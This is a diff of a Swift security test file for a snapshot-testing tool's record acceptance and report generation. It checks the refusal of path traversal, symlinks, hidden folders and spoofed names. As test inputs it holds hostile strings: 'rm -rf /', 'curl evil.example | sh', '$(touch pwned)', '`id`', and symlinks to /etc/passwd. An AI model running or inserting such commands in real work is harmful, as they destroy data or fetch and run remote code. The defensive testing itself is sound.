@@ -14,16 +14,6 @@ struct TrustTests {
     court = try Court()
   }
 
-  /// Records of a CI run in which a picture or a text is missing.
-  private func missing(_ content: SnapshotContent? = nil, named name: String = "card") throws -> RunRecords {
-    let writer = try court.writer()
-    let judge = try court.judge(isLocked: true, records: writer)
-    try writer.begin(Court.process(), environment: judge.fingerprint)
-    let made = try content ?? .picture(try Court.picture(of: Court.card()))
-    #expect(judge.judge(court.snapshot(name) { made }).failure?.kind == .missing)
-    return try RecordReader.read([court.artifacts])
-  }
-
   /// Accepts a tampered record: returns nil where it is accepted, else the refusal.
   private func refusal(
     _ read: RunRecords, root: String? = nil, _ change: (inout RunRecord) -> Void
@@ -50,7 +40,7 @@ struct TrustTests {
     arguments: ["ELSEWHERE/new", "..", "../..", "a/../..", "/", "__Snapshots__/../../x"])
   func outside(folder: String) throws {
     let elsewhere = try Places.scratchFolder().path
-    let read = try missing()
+    let read = try court.missing()
     let answer = try refusal(read) { $0.folder = folder.replacing("ELSEWHERE", with: elsewhere) }
     #expect(answer?.contains("no reference may be written into") == true, "\(answer ?? "accepted")")
     #expect(answer?.contains("outside") == true)
@@ -61,7 +51,7 @@ struct TrustTests {
     "a reference is never written into a hidden folder",
     arguments: [".git/hooks", ".github/workflows", "a/.b", ".\u{301}x", "git~1/hooks"])
   func hidden(folder: String) throws {
-    let read = try missing()
+    let read = try court.missing()
     #expect(try refusal(read) { $0.folder = folder }?.contains("hidden") == true)
     #expect(files.isEmpty)
   }
@@ -86,7 +76,7 @@ struct TrustTests {
     ])
   func foreignManifest(line: String) throws {
     try court.record("other")
-    let read = try missing()
+    let read = try court.missing()
     let pruned = try PrunedFiles(in: court.artifacts)
     let ours = try court.bytes("manifest.jsonl")
     let theirs = ours + Array((line + "\n").utf8)
@@ -131,7 +121,7 @@ struct TrustTests {
 
   @Test("a temporary file is deleted when nobody has written it for an hour, and not before", arguments: [true, false])
   func leftovers(isAccepting: Bool) throws {
-    let read = try missing()
+    let read = try court.missing()
     try Files.makeFolder(court.references)
     for (name, age) in [("old", 3700.0), ("new", 3500.0)] {
       let path = "\(court.references)/.portal-\(name).tmp"
@@ -157,7 +147,7 @@ struct TrustTests {
 
   @Test("a reference is never written through a symlink, be it of a folder or a file")
   func links() throws {
-    let read = try missing()
+    let read = try court.missing()
     try Files.makeFolder(court.folder + "/real")
     symlink("real", court.folder + "/link")
     #expect(try refusal(read) { $0.folder = "link" }?.contains("symbolic link") == true)
@@ -177,7 +167,7 @@ struct TrustTests {
     "notes that merely begin as a layout text does are kept, and a layout text of ours is replaced",
     arguments: ["screen 2: the hall\n", "screen\n", "screen 60×24 @1x light\nand what I think of it\n"])
   func likeLayouts(notes: String) throws {
-    let read = try missing()
+    let read = try court.missing()
     let place = court.folder + "/screens/card.txt"
     try Files.makeFolder(court.folder + "/screens")
     try Files.write(Array(notes.utf8), to: place)
@@ -189,12 +179,20 @@ struct TrustTests {
 
   @Test("no folder is made whose name is another's but for capitals or accents")
   func likeFolders() throws {
-    let read = try missing()
+    let read = try court.missing()
     try Files.makeFolder(court.folder + "/Bücher")
     for name in ["bücher", "Bu\u{308}cher"] {
       #expect(try refusal(read) { $0.folder = "\(name)/__Snapshots__" }?.contains("the same on some machines") == true)
     }
     #expect(try Files.list(court.folder).filter { $0 != "artifacts" } == ["Bücher"])
+  }
+
+  @Test(
+    "no folder is made whose name leads elsewhere, or is another, where Windows shares it",
+    arguments: [#"a\..\..\b"#, " ", "a ", "a."])
+  func sharedFolders(name: String) throws {
+    #expect(try refusal(try court.missing()) { $0.folder = "\(name)/__Snapshots__" }?.contains("cannot be") == true)
+    #expect(files.isEmpty)
   }
 
   // MARK: Links that somebody left in the folder of a run
@@ -230,7 +228,7 @@ struct TrustTests {
 
   @Test("a file in a reference's place that is no reference is kept")
   func others() throws {
-    let read = try missing()
+    let read = try court.missing()
     let notes = court.folder + "/screens/card.txt"
     try Files.makeFolder(court.folder + "/screens")
     try Files.write(Array("requests==2.0\n".utf8), to: notes)
@@ -249,7 +247,7 @@ struct TrustTests {
 
   @Test("a text is accepted among references only, with a text's ending")
   func texts() throws {
-    let read = try missing(.text("rm -rf /\n", ending: "txt"), named: "build")
+    let read = try court.missing(.text("rm -rf /\n", ending: "txt"), named: "build")
     for ending in ["sh", "yml", "swift", "py", "jsonl", "", "txt/..", "png\n"] {
       #expect(try refusal(read) { $0.ending = ending } != nil, "\(ending)")
     }
@@ -261,11 +259,11 @@ struct TrustTests {
 
   @Test("invalid UTF-8, and texts under a layout's name, are refused")
   func bytes() throws {
-    let read = try missing(.text("text", ending: "txt"), named: "list")
+    let read = try court.missing(.text("text", ending: "txt"), named: "list")
     let bytes: [UInt8] = [0x7F, 0x45, 0x4C, 0x46, 0, 0xFF]
     try Files.write(bytes, to: court.artifacts + "/list.txt")
     #expect(try refusal(read) { $0.now?.digest = ContentDigest(bytes).description } != nil)
-    let picture = try missing()
+    let picture = try court.missing()
     let script = Array("#!/bin/sh\n".utf8)
     try Files.write(script, to: court.artifacts + "/card.txt")
     #expect(try refusal(picture) { $0.now?.text = ContentDigest(script).description }?.contains("not those") == true)
@@ -276,7 +274,7 @@ struct TrustTests {
     "only a plain name is accepted for a reference",
     arguments: ["..", ".hidden", "a\u{1B}[2Jb", "a\nb", "a b", "-", "x;y", "manifest.jsonl/..", "\u{202E}gnp", "a..b"])
   func names(name: String) throws {
-    let read = try missing()
+    let read = try court.missing()
     let answer = try refusal(read) { $0.name = name }
     // Of these, a hyphen alone is plain.
     #expect((answer == nil) == (name == "-"))
@@ -307,7 +305,7 @@ struct TrustTests {
   @Test("a name that some file systems take for another reference's is refused")
   func twins() throws {
     try court.record()
-    let read = try missing(named: "Card2")
+    let read = try court.missing(named: "Card2")
     for name in ["Card", "CARD"] {
       #expect(try refusal(read) { $0.name = name }?.contains("the same on some machines") == true)
     }
@@ -318,7 +316,7 @@ struct TrustTests {
 
   @Test("a name with letters that nobody sees is refused, and none is made")
   func unseen() throws {
-    let read = try missing(named: "Card2")
+    let read = try court.missing(named: "Card2")
     for name in ["Card\u{3164}", "Card\u{115F}", "Car\u{FE0F}d", "Card\u{180B}", "\u{3164}"] {
       #expect(try refusal(read) { $0.name = name } != nil, "\(name.unicodeScalars)")
       #expect(SnapshotName(suite: "S", function: name).file.contains("-"))
@@ -328,7 +326,7 @@ struct TrustTests {
 
   @Test("numbers and words that no picture has are refused")
   func fields() throws {
-    let read = try missing()
+    let read = try court.missing()
     for scale in [0, -1, 1e300, .infinity, .nan] {
       #expect(try refusal(read) { $0.now?.scale = scale }?.contains("not those that it judged") == true, "\(scale)")
     }
@@ -345,77 +343,9 @@ struct TrustTests {
     #expect(try refusal(read) { _ in } == nil)
   }
 
-  @Test("an environment of more lines than one can have is none, and is not kept")
-  func manyLines() throws {
-    _ = try missing()
-    let names = try FileManager.default.contentsOfDirectory(atPath: court.artifacts)
-    let file = court.artifacts + "/" + (try #require(names.first { $0.hasSuffix(".jsonl") }))
-    let text = String(decoding: try Files.read(file), as: UTF8.self)
-    #expect(try RecordReader.read([file]).records.contains { $0.environment != nil })
-    let many = text.replacing(#""lines":["#, with: #""lines":["# + String(repeating: #""a","#, count: 1000))
-    #expect(many != text)
-    try Files.write(Array(many.utf8), to: file)
-    #expect(try RecordReader.read([file]).records.allSatisfy { $0.environment == nil })
-  }
-
-  @Test("records of more environments than a run has machines are an error, and equal ones are one")
-  func environments() throws {
-    let begin = try #require(try missing().records.first { $0.environment != nil })
-    func read(_ count: Int, _ ink: (Int) -> String) throws -> RunRecords {
-      let lines = (0..<count).map { number in
-        var record = begin
-        record.environment?.ink = ink(number)
-        return record.line + "\n"
-      }
-      try Files.makeFolder(court.folder + "/many")
-      try Files.write(Array(lines.joined().utf8), to: court.folder + "/many/1.jsonl")
-      return try RecordReader.read([court.folder + "/many"])
-    }
-    #expect(try read(1001) { "\($0 % 1000)" }.records.count == 1001)
-    #expect {
-      try read(1001) { "\($0)" }
-    } throws: {
-      "\($0)".contains("records of more than 1000 environments")
-    }
-  }
-
-  @Test("an environment is looked at once, however many records have it")
-  func environmentOnce() throws {
-    try court.record("other")
-    let read = try missing()
-    var large = try Court.fingerprint.get()
-    large.lines = (0..<1000).map { "library\($0) " + String(repeating: "1", count: 180) }
-    let record = try #require(read.records.last { $0.event == .assertion })
-    let many = (0..<500).map { number in
-      var record = record
-      (record.name, record.fingerprint) = ("card\(number)", large.id)
-      return record
-    }
-    var outcomes: [Result<String, any Error>] = []
-    let seconds = ThreadTime.seconds {
-      outcomes = Acceptance(root: ReferenceRoot(base: court.folder)).accept(many, environments: [large.id: large])
-    }
-    #expect(outcomes.allSatisfy { "\($0)".contains("it was drawn in another environment than other.png") })
-    #expect(seconds < 2)
-  }
-
-  @Test("a record with a path longer than a system's is none")
-  func longPaths() throws {
-    let record = try #require(try missing().records.last { $0.event == .assertion })
-    #expect(RunRecord(record.value) != nil)
-    for part in [\RunRecord.folder, \.name, \.ending, \.test] {
-      var long = record
-      long[keyPath: part] = String(repeating: "a/", count: 2049)
-      #expect(RunRecord(long.value) == nil)
-    }
-    #expect(throws: FileError.self) {
-      try ConfinedFolder(String(repeating: "a/", count: 2049), beneath: court.folder, makes: true)
-    }
-  }
-
   @Test("artefacts are read from the run's own folder only, and never through a symlink")
   func kept() throws {
-    let read = try missing(.text("text", ending: "txt"), named: "list")
+    let read = try court.missing(.text("text", ending: "txt"), named: "list")
     let secret = court.folder + "/secret.txt"
     try Files.write(Array("text".utf8), to: secret)
     symlink("../secret.txt", court.artifacts + "/link.txt")
@@ -429,128 +359,5 @@ struct TrustTests {
     }
     #expect(files == ["secret.txt"])
     #expect(try refusal(read) { _ in } == nil)
-  }
-
-  @Test("a folder of records may be a symlink; a symlink or a pipe in it is an error, and does not block")
-  func folders() throws {
-    _ = try missing()
-    try FileManager.default.moveItem(atPath: court.artifacts, toPath: court.folder + "/real")
-    symlink("real", court.folder + "/named")
-    #expect(try RecordReader.read([court.folder + "/named"]).records.count == 2)
-    mkfifo(court.folder + "/real/000002.jsonl", 0o600)
-    #expect(throws: FileError.self) { try RecordReader.read([court.folder + "/real"]) }
-    try Files.remove(court.folder + "/real/000002.jsonl")
-    symlink("/etc/passwd", court.folder + "/real/000002.jsonl")
-    #expect(throws: FileError.self) { try RecordReader.read([court.folder + "/real"]) }
-  }
-
-  // MARK: Reports
-
-  @Test("a page embeds the run's artefacts and references, and no other file of this machine")
-  func attachments() throws {
-    let read = try missing()
-    var record = try #require(read.records.last { $0.event == .assertion })
-    func attached(_ what: String, _ path: String, digest: String? = nil) -> Int {
-      record.files = [RunRecord.File(what: what, path: path, digest: digest)]
-      return SnapshotReport([record]).attachments(root: ReferenceRoot(base: court.folder)).count
-    }
-    // A run's own artefact is embedded by the digest in its record.
-    let files = record.files
-    for file in files { #expect(attached(file.what, file.path, digest: file.digest) == 1) }
-    #expect(files.count == 2 && attached("now", "card.png") == 0)
-    #expect(attached("text", "card.txt") == 1)
-    try court.record()
-    #expect(attached("reference", "__Snapshots__/card.png") == 1)
-    #expect(attached("reference", "__Snapshots__/card.txt") == 1)
-    let secret = Array("AWS_SECRET=x\n".utf8)
-    try Files.write(secret, to: court.folder + "/secret.txt")
-    try Files.write(secret, to: court.artifacts + "/secret.txt")
-    try Files.write(try court.bytes("card.png"), to: court.folder + "/photo.png")
-    // References that no manifest knows, and what another run kept.
-    try Files.write(try court.bytes("card.png"), to: court.artifacts + "/other.png")
-    try Files.write(try court.bytes("card.png"), to: court.references + "/other.png")
-    symlink("../photo.png", court.artifacts + "/photo.png")
-    try Files.makeFolder(court.folder + "/.ssh")
-    try Files.write(try court.bytes("card.png"), to: court.folder + "/.ssh/photo.png")
-    for path in [
-      "../secret.txt", "secret.txt", "../photo.png", "photo.png", "other.png", "/etc/passwd",
-      court.folder + "/photo.png", "__Snapshots__/manifest.jsonl",
-    ] {
-      for what in ["now", "text", "once"] { #expect(attached(what, path) == 0, "\(what) \(path)") }
-    }
-    for path in [
-      "secret.txt", "../\(court.folder.split(separator: "/").last ?? "")/photo.png", "/etc/passwd", ".ssh/photo.png",
-      "artifacts/photo.png", "photo.png", "__Snapshots__/other.png", "__Snapshots__/manifest.jsonl",
-    ] {
-      #expect(attached("reference", path) == 0, "\(path)")
-    }
-    // A hidden file, though a manifest lists it.
-    try Files.write(secret, to: court.references + "/.env")
-    var manifest = try ReferenceFolder(court.references).manifest()
-    try manifest.set(ReferenceEntry(name: ".env", file: ContentDigest(secret)), in: nil)
-    try court.write(manifest.bytes, to: "manifest.jsonl")
-    record.reference = RunRecord.Content(digest: ContentDigest(secret).description)
-    #expect(attached("reference", "__Snapshots__/.env") == 0)
-  }
-
-  @Test("a page's files are read once however they are spelled, and count whether they are embedded or not")
-  func readOnce() throws {
-    var record = try #require(try missing().records.last { $0.event == .assertion })
-    let files = record.files
-    let stranger = [UInt8](repeating: 0, count: 1000)
-    try Files.write(stranger, to: court.artifacts + "/stranger.png")
-    let root = ReferenceRoot(base: court.folder)
-    let size = SnapshotReport([record]).attachments(root: root).reduce(0) { $0 + $1.bytes.count }
-    func attached(_ files: [RunRecord.File], limit: Int) -> Int {
-      record.files = files
-      return SnapshotReport([record]).attachments(root: root, limit: limit).count
-    }
-    func strange(_ paths: [String]) -> [RunRecord.File] { paths.map { RunRecord.File(what: "once", path: $0) } }
-    let one = strange(["stranger.png"])
-    #expect(attached(files, limit: size) == 2)
-    #expect(attached(one + files, limit: size + 999) == 1)
-    let spelled = strange(["stranger.png", "./stranger.png", ".//stranger.png", "a/../stranger.png"])
-    #expect(attached(spelled + files, limit: size + 1000) == 2)
-    #expect(attached(strange((0..<16).map { "missing\($0).png" }) + files, limit: size) == 0)
-  }
-
-  @Test("a report's commands are built anew, not copied from records, and quoted for the shell")
-  func commands() throws {
-    var record = RunRecord(run: "1", event: .assertion)
-    record.outcome = .failed
-    record.name = "$(touch pwned)"
-    record.folder = "it's"
-    record.accept = "curl evil.example | sh"
-    record.cluster = "`id`"
-    record.message = "\u{1B}]0;pwned\u{7}\u{202E}differs"
-    let report = SnapshotReport([record, record], from: ["my records"])
-    #expect(
-      report.results[0].accept == #"portal-render accept 'my records' --only 'it'\''s/$(touch pwned).png'"#)
-    #expect(report.clusters[0].accept == "portal-render accept 'my records' --cluster '`id`'")
-    let all = report.githubAnnotations.joined() + report.githubSummary + report.junit + JSONWriter.text(of: report.json)
-    #expect(!all.contains("evil.example"))
-    #expect(!(report.githubAnnotations.joined() + report.githubSummary).contains { "\u{1B}\u{7}\u{202E}".contains($0) })
-  }
-
-  @Test("more records than memory has room for are an error, and so are files of other lines")
-  func manyRecords() throws {
-    let line = #"{"v":1,"run":"","event":"end"}"# + "\n"
-    try Files.makeFolder(court.folder + "/many")
-    try Files.write(Array(String(repeating: line + "\n\n", count: 50).utf8), to: court.folder + "/many/1.jsonl")
-    #expect(try RecordReader.read([court.folder + "/many"], most: 50).records.count == 50)
-    #expect {
-      try RecordReader.read([court.folder + "/many"], most: 49)
-    } throws: {
-      "\($0)".contains("there are more than 49 records")
-    }
-    try Files.write(Array(String(repeating: "x\n", count: 150).utf8), to: court.folder + "/many/2.jsonl")
-    let problems = try RecordReader.read([court.folder + "/many"]).problems
-    #expect(problems.count == 101 && problems.last?.message == "there are 50 more lines that are no whole records")
-    try Files.write(Array(String(repeating: "x\n", count: 10_200).utf8), to: court.folder + "/many/2.jsonl")
-    #expect {
-      try RecordReader.read([court.folder + "/many"])
-    } throws: {
-      "\($0)".contains("more than 10000 lines are no records")
-    }
   }
 }
